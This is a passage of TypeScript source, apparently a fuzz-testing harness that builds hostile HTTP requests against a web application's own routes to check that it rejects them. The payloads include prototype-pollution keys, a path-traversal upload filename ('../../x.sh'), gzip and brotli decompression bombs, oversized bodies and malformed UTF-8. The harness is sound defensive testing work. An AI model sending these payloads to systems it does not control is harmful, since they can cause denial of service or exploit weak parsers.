    { label: 'bracket keys', payload: `${encodeURIComponent(first)}[]=1&${encodeURIComponent(first)}[a][b]=2` },
    { label: '__proto__ keys', payload: `${form(entries)}&__proto__[${POLLUTION_MARK}]=1&__proto__=x&constructor[prototype][${POLLUTION_MARK}]=1` },
    { label: '%00 everywhere', payload: entries.map(([k]) => `${encodeURIComponent(k)}=%00`).join('&') },
    { label: 'huge key', payload: `${'k'.repeat(20_000)}=1` },
    { label: '5000 keys', payload: Array.from({ length: 5000 }, (_, i) => `k${i}=${i}`).join('&') },
    { label: 'JSON in form', payload: JSON.stringify(valid ?? {}) },
  ];
}

const MULTIPART_BODY =
  '------x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n------x\r\nContent-Disposition: form-data; name="file"; filename="../../x.sh"\r\nContent-Type: application/x-sh\r\n\r\n#!/bin/sh\r\n------x--\r\n';

/** Bytes that are not valid UTF-8, alone and inside JSON strings. */
function invalidUtf8Payloads(valid: Record<string, unknown> | undefined, stringPath: string[] | undefined): Array<{ label: string; payload: Buffer }> {
  const sequences: Array<[string, number[]]> = [
    ['0xff 0xfe', [0xff, 0xfe]],
    ['lone continuation', [0x80]],
    ['bad continuation', [0xc3, 0x28]],
    ['overlong slash', [0xc0, 0xaf]],
    ['UTF-16 surrogate', [0xed, 0xa0, 0x80]],
    ['truncated 3-byte', [0xe2, 0x82]],
    ['beyond U+10FFFF', [0xf4, 0x90, 0x80, 0x80]],
    ['NUL', [0x00]],
  ];
  const out: Array<{ label: string; payload: Buffer }> = [];
  for (const [label, bytes] of sequences) {
    out.push({ label: `${label} alone`, payload: Buffer.from(bytes) });
    if (valid && stringPath) {
      const [before, after] = bodyWith(valid, stringPath, SLOT).split(SLOT) as [string, string];
      out.push({ label: `${label} in a string`, payload: Buffer.concat([Buffer.from(`${before}"a`), Buffer.from(bytes), Buffer.from(`b"${after}`)]) });
    }
  }
  const text = JSON.stringify(valid ?? {});
  out.push({ label: 'UTF-16LE with BOM', payload: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]) });
  out.push({ label: 'UTF-8 BOM', payload: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)]) });
  out.push({ label: 'latin1 bytes', payload: Buffer.from(text.replace(/}$/, ',"x":"caf\u00e9"}'), 'latin1') });
  return out;
}

export interface GenerateOptions {
  seed: number;
  /** the app's body limit; bodies just over it must give 413 */
  bodyLimit: number;
}

/**
 * How hard a route is hit. Routes that take input get everything; GET routes with parameters a
 * sample; static files, HEAD (GET's handler) and preflights a few; the logged-in pass repeats
 * what reaches past the session check.
 */
export type Tier = 'deep' | 'light' | 'minimal' | 'logged-in';

interface Budget {
  pathValues: number;
  urlOddities: number;
  queryVariants: number;
  garbageQueries: number;
  headers: number;
  contentTypes: number;
  forms: number;
  invalidJson: number;
  wholeBodies: number;
  oversized: number;
  utf8: number;
  compression: number;
  /** hostile values drawn per body property, on top of the core ones and the property's own limits */
  perProperty: number;
  formStrings: number;
  proto: number;
  mixed: number;
  methods: number;
}

const ALL = Number.POSITIVE_INFINITY;
const BUDGETS: Record<Tier, Budget> = {
  deep: {
    pathValues: ALL,
    urlOddities: ALL,
    queryVariants: ALL,
    garbageQueries: ALL,
    headers: 24,
    contentTypes: ALL,
    forms: ALL,
    invalidJson: 6,
    wholeBodies: ALL,
    oversized: ALL,
    utf8: 6,
    compression: ALL,
    perProperty: 3,
    formStrings: 3,
    proto: ALL,
    mixed: 8,
    methods: 5,
  },
  light: {
    pathValues: 10,
    urlOddities: 3,
    queryVariants: 4,
    garbageQueries: 5,
    headers: 8,
    contentTypes: 5,
    forms: 3,
    invalidJson: 3,
    wholeBodies: 4,
    oversized: 3,
    utf8: 3,
    compression: 1,
    perProperty: 2,
    formStrings: 1,
    proto: 2,
    mixed: 4,
    methods: 3,
  },
  minimal: {
    pathValues: 3,
    urlOddities: 2,
    queryVariants: 1,
    garbageQueries: 2,
    headers: 3,
    contentTypes: 2,
    forms: 1,
    invalidJson: 1,
    wholeBodies: 2,
    oversized: 1,
    utf8: 1,
    compression: 1,
    perProperty: 0,
    formStrings: 0,
    proto: 1,
    mixed: 2,
    methods: 2,
  },
  'logged-in': {
    pathValues: 5,
    urlOddities: 0,
    queryVariants: 4,
    garbageQueries: 2,
    headers: 3,
    contentTypes: 3,
    forms: 2,
    invalidJson: 2,
    wholeBodies: 4,
    oversized: 4,
    utf8: 2,
    compression: 1,
    perProperty: 3,
    formStrings: 2,
    proto: ALL,
    mixed: 5,
    methods: 0,
  },
};

/** A crude schema for a body known only by example (routes the OpenAPI document hides). */
export function inferSchema(value: unknown): JsonSchema {
  if (Array.isArray(value)) return { type: 'array', items: value.length ? inferSchema(value[0]) : {} };
  if (value === null) return { type: 'null' };
  if (typeof value === 'object') {
    const entries = Object.entries(value as Record<string, unknown>);
    return { type: 'object', required: entries.map(([k]) => k), properties: Object.fromEntries(entries.map(([k, v]) => [k, inferSchema(v)])) };
  }
  return { type: typeof value };
}

const bigPayloads = new Map<string, string>();
/** Multi-megabyte payloads are built once and shared by every route that sends them. */
function bigPayload(make: () => string, size: number, contentType: string): string {
  const key = `${size} ${contentType}`;
  if (!bigPayloads.has(key)) bigPayloads.set(key, make());
  return bigPayloads.get(key)!;
}

let bombCache: { gzip: Buffer; br: Buffer } | undefined;
/** 20 MiB of spaces, compressed to a few KB: must be refused at the body limit, not inflated. */
function bombs(): { gzip: Buffer; br: Buffer } {
  if (!bombCache) {
    const bomb = Buffer.alloc(20 << 20, 0x20);
    bombCache = { gzip: gzipSync(bomb, { level: 9 }), br: brotliCompressSync(bomb) };
  }
  return bombCache;
}

/** Values every property gets; the rest are drawn by the PRNG. */
const CORE_LABELS = new Set(['null', 'empty array', 'object', '100k string', '__proto__ object', '10k-deep array', 'NUL in a string']);

/**
 * Paths present in a valid body that its schema does not declare (free-form objects such as a
 * design's blocks): these reach the handler's own code, so they are hit too.
 */
export function valuePaths(value: unknown, declared: Set<string>, path: string[] = [], out: string[][] = []): string[][] {
  if (path.length > 8 || value === null || typeof value !== 'object') return out;
  const entries = Array.isArray(value) ? value.slice(0, 2).map((v, i) => [String(i), v] as const) : Object.entries(value as Record<string, unknown>);
  for (const [key, child] of entries) {
    const next = [...path, key];
    if (!declared.has(next.join('.'))) out.push(next);
    valuePaths(child, declared, next, out);
  }
  return out;
}

/** Every hostile case for every route, in a fixed order. */
export function generateCases(routes: RouteSpec[], fixture: CaseFixture, options: GenerateOptions): HostileCase[] {
  // One stream per route and pass: a route added or removed elsewhere leaves every other route's cases as they were.
  let rng = seededRng(options.seed);
  const cases: HostileCase[] = [];
  const seen = new Map<string, number>();
  const add = (route: RouteSpec, label: string, c: Omit<HostileCase, 'id' | 'route'>) => {
    let id = `${c.method} ${route.path}${c.authenticated ? ' (logged in)' : ''} :: ${label}`;
    const n = seen.get(id) ?? 0;
    seen.set(id, n + 1);
    if (n) id = `${id} #${n + 1}`;
    cases.push({ ...c, id, route: `${route.method} ${route.path}` });
  };
  const some = <T>(list: readonly T[], n: number): T[] => sampleOf(rng, list, n);

  for (const route of routes) {
    const passes: Array<{ authenticated: boolean; tier: Tier }> = [{ authenticated: false, tier: fixture.tier(route) }];
    if (fixture.authenticated(route)) passes.push({ authenticated: true, tier: 'logged-in' });
    for (const { authenticated, tier } of passes) {
      rng = seededRng(options.seed ^ hashText(`${route.method} ${route.path} ${authenticated}`));
      const budget = BUDGETS[tier];
      const realUrl = (overrides: Record<string, string> = {}) =>
        route.path
          .split('/')
          .map((segment) => {
            if (segment.startsWith(':')) return overrides[segment.slice(1)] ?? encodeURIComponent(fixture.param(route, segment.slice(1), authenticated));
            if (segment === '*') return overrides['*'] ?? fixture.param(route, '*', authenticated);
            return segment;
          })
          .join('/');
      const validQuery =
        fixture.validQuery?.(route) ??
        Object.fromEntries(route.requiredQuery.map((name) => [name, String(sampleValue(route.query[name] ?? {}, name, fixture, authenticated))]));
      const queryString = new URLSearchParams(validQuery).toString();
      const baseUrl = (overrides: Record<string, string> = {}) => `${realUrl(overrides)}${queryString ? `?${queryString}` : ''}`;
      const takesBody = BODY_METHODS.has(route.method);
      const valid = takesBody ? validBody(route, fixture, authenticated) : undefined;
      const bodySchema = route.body ?? (valid ? inferSchema(valid) : undefined);
      const validText = takesBody ? JSON.stringify(valid ?? {}) : undefined;
      const send = (label: string, url: string, headers: Record<string, string>, payload?: string | Buffer) =>
        add(route, label, { method: route.method, url, authenticated, headers, ...(payload !== undefined ? { payload } : {}) });
      const jsonHeaders = (): Record<string, string> => (validText !== undefined ? { 'content-type': 'application/json' } : {});

      // 1. The route as its caller would use it: the baseline every other case varies.
      send('valid request', baseUrl(), jsonHeaders(), validText);

      // 2. Hostile path parameters.
      for (const name of route.params) {
        for (const { label, segment } of some(HOSTILE_PATH_VALUES, budget.pathValues)) {
          send(`path ${name} = ${label}`, baseUrl({ [name]: segment }), jsonHeaders(), validText);
        }
      }

      // 3. URL oddities.
      const url = realUrl();
      const oddities: Array<[string, string]> = [
        ['trailing slash', `${url}/`],
        ['double slash', `/${url}`],
        ['dot segment', url.replace(/^\//, '/./')],
        ['dot-dot segment', `/x/..${url}`],
        ['encoded slashes', url.replace(/\//g, '%2F')],
        ['upper case', url.toUpperCase()],
        ['matrix parameter', `${url};jsessionid=x`],
        ['empty query', `${url}?`],
        ['fragment', `${url}#frag`],
        ['8000-char query', `${url}?${'q'.repeat(8000)}`],
        ['backslashes', url.replace(/\//g, '\\')],
      ];
      for (const [label, odd] of some(oddities, budget.urlOddities)) send(`url ${label}`, odd, jsonHeaders(), validText);

      // 4. Query strings: each declared parameter, then garbage nobody declared.
      for (const name of new Set([...Object.keys(route.query), ...Object.keys(validQuery)])) {
        const validValue = validQuery[name] ?? String(sampleValue(route.query[name] ?? {}, name, fixture, authenticated));
        const rest = new URLSearchParams(Object.entries(validQuery).filter(([k]) => k !== name)).toString();
        const variants = queryVariants(name, validValue);
        const core = variants.filter((v) => CORE_QUERY_LABELS.has(v.label));
        // A parameter that carries JSON (a product list): hostile JSON inside it too.
        const json: Array<{ label: string; pairs: string }> = [];
        if (/^\s*[[{]/.test(validValue)) {
          try {
            for (const { label, inner } of some(jsonStringVariants(validValue, rng), tier === 'deep' ? 30 : 15)) {
              json.push({ label: `json ${label}`, pairs: `${encodeURIComponent(name)}=${encodeLoose(inner)}` });
            }
          } catch {
            // not JSON after all
          }
        }
        for (const { label, pairs } of [
          ...core,
          ...some(
            variants.filter((v) => !CORE_QUERY_LABELS.has(v.label)),
            budget.queryVariants,
          ),
          ...json,
        ]) {
          const query = [rest, pairs].filter(Boolean).join('&');
          send(`query ${name} ${label}`, `${url}${query ? `?${query}` : ''}`, jsonHeaders(), validText);
        }
      }
      for (const { label, query } of some(GARBAGE_QUERIES, budget.garbageQueries)) {
        send(`query ${label}`, `${baseUrl()}${queryString ? '&' : '?'}${query}`, jsonHeaders(), validText);
      }

      // 5. Headers.
      for (const { label, headers } of some(headerVariants(takesBody), budget.headers)) {
        send(`header ${label}`, baseUrl(), { ...jsonHeaders(), ...headers }, validText);
      }

      if (takesBody) {
        const bodyText = validText ?? '{}';
        // 6. Content types for the valid body, and bodies in the wrong format for their type.
        for (const contentType of some(CONTENT_TYPES, budget.contentTypes)) {
          send(`content-type ${JSON.stringify(contentType.slice(0, 60))}`, baseUrl(), { 'content-type': contentType }, bodyText);
        }
        send('no content-type', baseUrl(), {}, bodyText);
        for (const { label, payload } of some(formPayloads(valid), budget.forms)) {
          send(`form ${label}`, baseUrl(), { 'content-type': 'application/x-www-form-urlencoded' }, payload);
        }
        send('multipart with file', baseUrl(), { 'content-type': 'multipart/form-data; boundary=----x' }, MULTIPART_BODY);
        if (tier === 'deep') {
          send('multipart without boundary', baseUrl(), { 'content-type': 'multipart/form-data' }, MULTIPART_BODY);
          send(
            'octet-stream bytes',
            baseUrl(),
            { 'content-type': 'application/octet-stream' },
            Buffer.from(Array.from({ length: 512 }, () => Math.floor(rng() * 256))),
          );
        }

        // 7. Empty bodies and invalid JSON.
        const empties: Array<[string, string, string]> = [];
        for (const contentType of ['application/json', 'text/plain', 'application/x-www-form-urlencoded', '']) {
          for (const [label, payload] of [
            ['empty', ''],
            ['whitespace', ' \n\t '],
            ['one NUL', '\u0000'],
          ] as const)
            empties.push([`${label} body as ${contentType || 'no type'}`, contentType, payload]);
        }
        for (const [label, contentType, payload] of tier === 'deep' ? empties : some(empties, 3))
          send(label, baseUrl(), contentType ? { 'content-type': contentType } : {}, payload);
        for (const text of some(INVALID_JSON, budget.invalidJson)) {
          for (const contentType of ['application/json', 'text/plain']) {
            send(`invalid JSON ${JSON.stringify(text.slice(0, 30))} as ${contentType}`, baseUrl(), { 'content-type': contentType }, text);
          }
        }
        for (const { label, raw } of some(WRONG_JSON_BODIES, budget.wholeBodies)) {
          send(`whole body ${label}`, baseUrl(), { 'content-type': pick(rng, ['application/json', 'text/plain']) }, raw);
        }

        // 8. Oversized bodies: at the limit, just over it (413), far over.
        const pad = (size: number, contentType: string) => {
          if (contentType.includes('form')) return bigPayload(() => `pad=${'p'.repeat(size - 4)}`, size, contentType);
          // Far over the limit the body's content does not matter: one shared string per size.
          if (size > options.bodyLimit * 2) return bigPayload(() => `{"pad":"${'p'.repeat(size - 10)}"}`, size, contentType);
          const head = bodyText === '{}' ? '{"pad":"' : `${bodyText.slice(0, -1)},"pad":"`;
          return `${head}${'p'.repeat(Math.max(0, size - head.length - 2))}"}`;
        };
        const oversized: Array<[string, number, string]> = [];
        for (const [label, size] of [
          ['limit + 1', options.bodyLimit + 1],
          ['8 MiB', 8 << 20],
          ['at the limit', options.bodyLimit],
          ['1 MiB', 1 << 20],
        ] as const) {
          for (const contentType of ['application/json', 'text/plain', 'application/x-www-form-urlencoded']) oversized.push([label, size, contentType]);
        }
        // The first ones (limit + 1, 8 MiB) come first in every budget.
        for (const [label, size, contentType] of oversized.slice(
          0,
          Math.min(oversized.length, budget.oversized === ALL ? oversized.length : budget.oversized),
        )) {
          const payload = pad(size, contentType);
          send(`oversized ${label} as ${contentType}`, baseUrl(), { 'content-type': contentType }, payload);
        }

        // 9. Invalid UTF-8.
        const stringPath = bodySchema ? schemaPaths(bodySchema, 1).find((p) => firstType(p.schema) === 'string')?.path : undefined;
        const utf8: Array<{ label: string; payload: Buffer; contentType: string }> = [];
        for (const { label, payload } of invalidUtf8Payloads(valid, stringPath)) {
          for (const contentType of ['application/json', 'text/plain', 'application/x-www-form-urlencoded']) utf8.push({ label, payload, contentType });
        }
        for (const { label, payload, contentType } of some(utf8, budget.utf8 === ALL ? ALL : budget.utf8 * 3)) {
          send(`invalid UTF-8 ${label} as ${contentType}`, baseUrl(), { 'content-type': contentType }, payload);
        }

        // 10. Compressed bodies: valid, garbage, and bombs that inflate far past the limit (bombs first).
        const compressed: Array<[string, string, Buffer]> = [
          ['gzip bomb (20 MiB of spaces)', 'gzip', bombs().gzip],
          ['br bomb (20 MiB of spaces)', 'br', bombs().br],
          ['gzip garbage', 'gzip', Buffer.from('not gzip at all')],
          ['gzip of the valid body', 'gzip', gzipSync(bodyText)],
          ['deflate of the valid body', 'deflate', deflateSync(bodyText)],
          ['br of the valid body', 'br', brotliCompressSync(bodyText)],
          ['truncated gzip', 'gzip', gzipSync(bodyText).subarray(0, 12)],
          ['br garbage', 'br', Buffer.from([0xff, 0xff, 0xff, 0xff])],
          ['gzip of invalid JSON', 'gzip', gzipSync('{"a":')],
        ];
        for (const [label, encoding, payload] of compressed.slice(0, Math.min(compressed.length, budget.compression))) {
          send(`content-encoding ${label}`, baseUrl(), { 'content-type': 'application/json', 'content-encoding': encoding }, payload);
        }

        // 11. Every property the schema declares, with wrong types and hostile values; missing when required;
        // prototype keys in every object.
        if (valid && bodySchema && budget.perProperty > 0) {
          const paths = schemaPaths(bodySchema);
          for (const { path, schema, required } of paths) {
            const where = path.join('.');
            const values = [
              ...boundaryValues(schema),
              ...HOSTILE_RAW.filter((v) => CORE_LABELS.has(v.label)),
              ...some(
                HOSTILE_RAW.filter((v) => !CORE_LABELS.has(v.label)),
                budget.perProperty,
              ),
            ];
            for (const { label, raw } of values) {
              send(`body ${where} = ${label}`, baseUrl(), { 'content-type': pick(rng, ['application/json', 'text/plain']) }, bodyWith(valid, path, raw));
            }
            if (required) {
              const body = structuredClone(valid);
              deleteAt(body, path);
              send(`body ${where} missing`, baseUrl(), { 'content-type': 'application/json' }, JSON.stringify(body));
            }
            // A string that passes validation, where it may reach the database or a parser: form-encoded too.
            if (firstType(schema) === 'string' && path.length === 1) {
              for (const text of some(HOSTILE_STRINGS, budget.formStrings)) {
                const entries = flatStrings(valid).filter(([k]) => k !== path[0]);
                entries.push([path[0]!, text]);
                send(`form ${where} = ${JSON.stringify(text.slice(0, 24))}`, baseUrl(), { 'content-type': 'application/x-www-form-urlencoded' }, form(entries));
              }
            }
          }
          // Only where the handler runs: anonymous calls to owner routes stop at the session check.
          if (authenticated || !fixture.authenticated(route)) {
            for (const path of valuePaths(valid, new Set(paths.map((p) => p.path.join('.'))))) {
              for (const { label, raw } of HOSTILE_RAW.filter((v) => CORE_LABELS.has(v.label))) {
                send(
                  `body value ${path.join('.')} = ${label}`,
                  baseUrl(),
                  { 'content-type': pick(rng, ['application/json', 'text/plain']) },
                  bodyWith(valid, path, raw),
                );
              }
            }
          }
          // Strings that carry JSON (a form's field list, a product list): hostile JSON inside the string.
          if (authenticated || !fixture.authenticated(route)) {
            for (const { path, text } of jsonStringPaths(valid)) {
              const where = path.join('.');
              for (const { label, inner } of jsonStringVariants(text, rng)) {
                send(`json in ${where} = ${label}`, baseUrl(), { 'content-type': 'application/json' }, bodyWith(valid, path, JSON.stringify(inner)));
              }
            }
          }
          const protoCases: Array<[string, string, string[], string]> = [];
          for (const path of [[], ...paths.filter((p) => firstType(p.schema) === 'object' || p.schema.properties).map((p) => p.path)]) {
            for (const [label, pairs] of [
              ['__proto__ key', `"__proto__":{"${POLLUTION_MARK}":"yes","polluted":"yes"}`],
              ['constructor.prototype key', `"constructor":{"prototype":{"${POLLUTION_MARK}":"yes"}}`],
              ['prototype key', `"prototype":{"${POLLUTION_MARK}":"yes"}`],
              ['duplicate keys', `"dup":1,"dup":[],"dup":{"__proto__":null}`],
            ] as const) {
              for (const contentType of ['application/json', 'text/plain']) protoCases.push([label, pairs, path, contentType]);
            }
          }
          for (const [label, pairs, path, contentType] of some(protoCases, budget.proto)) {
            send(`${label} in ${path.join('.') || 'root'} as ${contentType}`, baseUrl(), { 'content-type': contentType }, bodyWithKeys(valid, path, pairs));
          }
          // The same property twice in the JSON text, the second of the wrong type.
          for (const key of some(Object.keys(valid), budget.formStrings)) {
            send(
              `duplicate ${key} of the wrong type`,
              baseUrl(),
              { 'content-type': 'text/plain' },
              `${JSON.stringify(valid).slice(0, -1)},${JSON.stringify(key)}:{"a":[1]}}`,
            );
          }
        }
      }

      // 12. Random mixtures: several hostile parts at once.
      const keys = bodySchema ? schemaPaths(bodySchema, 2).map((p) => p.path) : [['a'], ['email'], ['url'], ['items', '0']];
      const smallRaw = HOSTILE_RAW.filter((v) => v.raw.length < 20_000);
      for (let i = 0; i < budget.mixed; i++) {
        const headers: Record<string, string> = {};
        let payload: string | undefined;
        if (takesBody || rng() < 0.1) {
          let text = JSON.stringify(valid ?? {});
          const mutations = 1 + Math.floor(rng() * 3);
          for (let m = 0; m < mutations && keys.length; m++) {
            try {
              text = bodyWith(JSON.parse(text) as Record<string, unknown>, pick(rng, keys), pick(rng, smallRaw).raw);
            } catch {
              break;
            }
          }
          if (rng() < 0.15) text = text.slice(0, Math.floor(rng() * text.length));
          payload = text;
          headers['content-type'] = pick(rng, [
            'application/json',
            'application/json',
            'text/plain',
            'text/plain',
            'application/x-www-form-urlencoded',
            'application/octet-stream',
            'text/csv',
          ]);
        }
        if (rng() < 0.3) Object.assign(headers, pick(rng, headerVariants(false)).headers);
        const query = rng() < 0.3 ? pick(rng, GARBAGE_QUERIES).query : '';
        const segment = route.params.length && rng() < 0.3 ? pick(rng, HOSTILE_PATH_VALUES).segment : undefined;
        const mixedUrl = baseUrl(segment !== undefined ? { [pick(rng, route.params)]: segment } : {});
        send(`mixed #${i + 1}`, query ? `${mixedUrl}${mixedUrl.includes('?') ? '&' : '?'}${query}` : mixedUrl, headers, payload);
      }
    }
  }

  // 13. Methods a path does not take, and preflights with odd headers.
  const methodsByPath = new Map<string, RouteSpec[]>();
  for (const route of routes) methodsByPath.set(route.path, [...(methodsByPath.get(route.path) ?? []), route]);
  for (const [path, list] of methodsByPath) {
    rng = seededRng(options.seed ^ hashText(`methods ${path}`));
    const route = list.find((r) => r.method !== 'HEAD' && r.method !== 'OPTIONS') ?? list[0]!;
    const budget = BUDGETS[fixture.tier(route)];
    const url = path
      .split('/')
      .map((s) => (s.startsWith(':') ? encodeURIComponent(fixture.param(route, s.slice(1), false)) : s === '*' ? fixture.param(route, '*', false) : s))
      .join('/');
    const registered = list.map((r) => r.method);
    for (const method of some(
      ALL_METHODS.filter((m) => !registered.includes(m)),
      budget.methods,
    )) {
      add({ ...route, method }, `method ${method} not allowed`, {
        method,
        url,
        authenticated: false,
        headers: { 'content-type': 'application/json' },
        payload: '{"a":1}',
      });
    }
    add({ ...route, method: 'OPTIONS' }, 'preflight with odd headers', {
      method: 'OPTIONS',
      url,
      authenticated: false,
      headers: {
        origin: 'https://evil.example',
        'access-control-request-method': 'X'.repeat(1000),
        'access-control-request-headers': ',,,x-a, \u00ff, ' + 'h,'.repeat(500),
      },
    });
  }
  return cases;
}

/** How a case is shown in a failure message: enough to replay it. */
export function describeCase(c: HostileCase): string {
  // Long bodies: the start and the end, where a hostile value usually shows; the case id names it too.
  const body =
    c.payload === undefined
      ? '(none)'
      : Buffer.isBuffer(c.payload)
        ? `<${c.payload.length} bytes> ${c.payload.subarray(0, 80).toString('hex')}`
        : c.payload.length <= 400
          ? JSON.stringify(c.payload)
          : `${JSON.stringify(c.payload.slice(0, 240))} … ${JSON.stringify(c.payload.slice(-120))} (${c.payload.length} chars)`;
  const extra = Object.entries(c.headers)
    .filter(([k]) => k !== 'content-type')
    .map(([k, v]) => `${k}: ${v.slice(0, 60)}${v.length > 60 ? '…' : ''}`);
  return [
    `${c.method} ${c.url.length > 200 ? `${c.url.slice(0, 200)}… (${c.url.length} chars)` : c.url}${c.authenticated ? ' [logged in]' : ''}`,
    `  content-type: ${c.headers['content-type'] ?? '(none)'}`,
    ...(extra.length ? [`  headers: ${extra.join('; ')}`] : []),
    `  body: ${body}`,
  ].join('\n');
}
